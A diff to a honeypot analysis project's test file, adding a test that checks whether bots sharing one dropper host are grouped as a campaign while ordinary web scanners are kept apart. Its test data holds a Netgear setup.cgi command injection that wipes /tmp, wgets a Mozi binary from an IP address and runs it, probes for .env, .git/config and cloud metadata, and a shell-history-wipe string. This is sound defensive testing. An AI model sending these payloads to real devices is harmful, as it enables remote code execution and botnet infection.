@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import math
 import random
+from datetime import timedelta
 
 import numpy as np
 import pytest
@@ -19,10 +20,11 @@ from coord_core.analysis.engine import shared_tool_log_odds
 from coord_core.analysis.frame import build_frame
 from coord_core.analysis.linking import script_supersets
 from coord_core.contracts.campaigns import AnalysisResult, Verdict
+from coord_core.contracts.events import parse_event
 from coord_core.contracts.sessions import AttackSession, Download, TcpipRequest
-from coord_core.ingest.sessionize import tunnel_data
+from coord_core.ingest.sessionize import sessionize, tunnel_data
 from coord_core.pipeline.analyze import analyze_sessions
-from tests.analysis.builders import PUBLIC_SCRIPT, TOP_PASSWORDS, background, random_ip, session
+from tests.analysis.builders import PUBLIC_SCRIPT, T0, TOP_PASSWORDS, background, random_ip, session
 
 HISTORY_WIPE = [
     "unset HISTORY HISTFILE HISTSAVE HISTZONE HISTORY HISTLOG WATCH ; history -n ; "
@@ -686,3 +688,48 @@ def test_independent_scanners_stay_apart_however_busy_the_hour() -> None:
             scanners.append(session(random_ip(rng), rng.uniform(0, day), client=client, hassh=hassh))
         result = analyze_sessions(scanners + background(rng, 150, span_s=day), {})
         assert _linked(result) == [], seed
+
+
+def _web_request(ip: str, at_s: float, target: str, user_agent: str, n: int) -> AttackSession:
+    """One web-honeypot request (each is its own session, keyed by its document id)."""
+    event = parse_event(
+        {
+            "eventid": "dshield.web.request",
+            "timestamp": (T0 + timedelta(seconds=at_s)).isoformat(),
+            "session": f"web-{n}",
+            "src_ip": ip,
+            "sensor": "web-a",
+            "method": "GET",
+            "url": target,
+            "user_agent": user_agent,
+            "dst_port": 8080,
+        }
+    )
+    (web,) = sessionize([event])
+    return web
+
+
+def test_web_exploits_that_fetch_one_dropper_host_are_one_campaign_and_web_scanners_stay_apart() -> None:
+    """The web honeypot's command injections name the file they want fetched: 20 bots naming one
+    dropper host are one botnet; 150 scanners asking the same common paths share nothing."""
+    rng = random.Random(33)
+    bots = [random_ip(rng) for _ in range(20)]
+    injection = (
+        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://45.95.147.20:44821/"
+        "Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"
+    )
+    requests = [
+        _web_request(ip, rng.uniform(0, 3600), injection, "Hello, world", n) for n, ip in enumerate(bots)
+    ]
+    scanners = [random_ip(rng) for _ in range(150)]
+    probes = ["/", "/.env", "/.git/config", "/wp-login.php", "/?url=http://169.254.169.254/latest/meta-data/"]
+    agents = [
+        "Mozilla/5.0 zgrab/0.x",
+        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    ]
+    for ip in scanners:
+        for path in rng.sample(probes, 3):
+            requests.append(_web_request(ip, rng.uniform(0, 3600), path, rng.choice(agents), len(requests)))
+    result = analyze_sessions(requests + background(rng, 80), {})
+    assert _pair_recall(result, bots) == 1.0
+    assert _merged_with(result, set(scanners)) == 0
